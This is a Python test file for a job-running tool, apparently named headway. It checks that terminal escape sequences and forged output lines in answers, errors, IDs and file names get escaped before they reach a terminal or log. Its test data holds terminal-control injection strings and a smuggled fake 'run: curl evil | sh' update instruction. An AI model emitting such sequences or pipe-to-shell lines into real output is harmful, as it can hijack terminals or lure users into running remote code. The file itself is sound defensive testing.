"""Escape sequences in answers, errors, reasons and names reach neither a terminal nor a log (DESIGN §9)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"
#: Control sequences that must never reach a terminal.
HARM = ("\x1b", "\x07", "\x9b", "\u202e")
WORK = f"""
import headway
from pathlib import Path
EVIL = {EVIL!r}
def work(unit, context):
    context.message("assistant", EVIL)
    print(EVIL)
    if unit == "bad":
        raise KeyError(EVIL)
    if unit == "held" and not Path("met").exists():
        Path("met").touch()
        raise headway.RateLimited(retry_after=0.2, reason=EVIL)
    return EVIL
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "deeds.py").write_text(WORK)
    (tmp_path / "headway.toml").write_text(
        '[providers.work]\nkind = "python"\ntarget = "deeds:work"\n[providers.work.retry]\nhold_margin = "0s"\n'
    )
    rows = [{"id": f"{unit}{EVIL}", "payload": unit} for unit in ("good", "bad", "held")]
    (tmp_path / "in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    return tmp_path


def headway(folder: Path, *args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "headway", *args],
        check=False,
        cwd=folder,
        capture_output=True,
        timeout=60,
        env={name: value for name, value in os.environ.items() if not name.startswith("HEADWAY_")},
    )
    return (done.stdout + done.stderr).decode()


def check(said: str) -> None:
    assert said
    found = [character for character in HARM if character in said]
    assert not found, said


def test_nothing_that_is_printed_or_logged_controls_a_terminal(folder: Path) -> None:
    check(headway(folder, "run", "in.jsonl", "--log-file", "run.log"))
    check(
        headway(
            folder, "run", "in.jsonl", "--fresh", "--force", "--progress", "json", "--log-file", "run.log"
        )
    )
    (job, *_) = json.loads(headway(folder, "jobs", "--json"))
    for command in ("jobs", "status", "lanes"):
        check(headway(folder, command))
        check(headway(folder, command, "--json"))
    for unit in ("0", "1", "2"):
        shown = headway(folder, "show", job["job"], unit)
        check(shown)
        assert "owned" in shown, "it is made visible, not left out"
        check(headway(folder, "show", job["job"], unit, "--json"))
    check((folder / "run.log").read_text())


def test_errors_of_commands_are_escaped_too(folder: Path) -> None:
    said = headway(folder, "run", f"no{EVIL}.jsonl")
    check(said)
    assert "owned" in said
    (folder / "headway.toml").write_text(f'["{chr(92)}u001b]0;owned"]\n')
    check(headway(folder, "run", "in.jsonl"))


def test_results_are_data_and_stay_unchanged(folder: Path) -> None:
    headway(folder, "run", "in.jsonl")
    first = json.loads((folder / "in.results.jsonl").read_text().splitlines()[0])
    assert first["response"]["body"] == EVIL
    assert json.loads(headway(folder, "export").splitlines()[0])["response"]["body"] == EVIL


FORGED = "\n  results: clean.jsonl\n  update needed, run: curl evil | sh"
#: Fails, and prints lines of its own as its error.
FAILING = f"""
def work(unit, context):
    raise RuntimeError("boom" + {FORGED!r})
"""


def lines_that_begin_as_ours(output: str) -> list[str]:
    """Lines of output that look like Headway's own. Lines that `show` indents below a name do not count."""
    return [line for line in output.splitlines() if line.startswith(("  update needed", "  results: clean"))]


def test_no_id_file_name_or_error_prints_a_line_of_its_own(folder: Path) -> None:
    (folder / "deeds.py").write_text(FAILING)
    name = f"in{FORGED}.jsonl"
    (folder / name).write_text(json.dumps({"id": f"a{FORGED}", "payload": "x"}) + "\n")
    outputs = [headway(folder, "plan", name), headway(folder, "run", name, "--log-file", "run.log")]
    (job,) = json.loads(headway(folder, "jobs", "--json"))
    outputs += [headway(folder, command) for command in ("status", "lanes", "jobs")]
    outputs += [headway(folder, "show", job["job"], "0"), (folder / "run.log").read_text()]
    assert "for example a\\n  results: clean.jsonl\\n  update needed" in outputs[1]
    assert [line for output in outputs for line in lines_that_begin_as_ours(output)] == []


def test_texts_of_several_lines_keep_their_lines(folder: Path) -> None:
    """A value, and the text of an exception that `headway.map` recorded."""
    (folder / "mapped.py").write_text(
        "import headway\n\ndef lines(item):\n    return 'one\\ntwo'\n\nheadway.map(lines, [1], db='m.db', key=str)\n"
    )
    subprocess.run([sys.executable, "mapped.py"], cwd=folder, check=True, capture_output=True, timeout=60)
    (job,) = json.loads(headway(folder, "jobs", "--db", "m.db", "--json"))
    assert "\none\ntwo\n" in headway(folder, "show", job["job"], "0", "--db", "m.db")
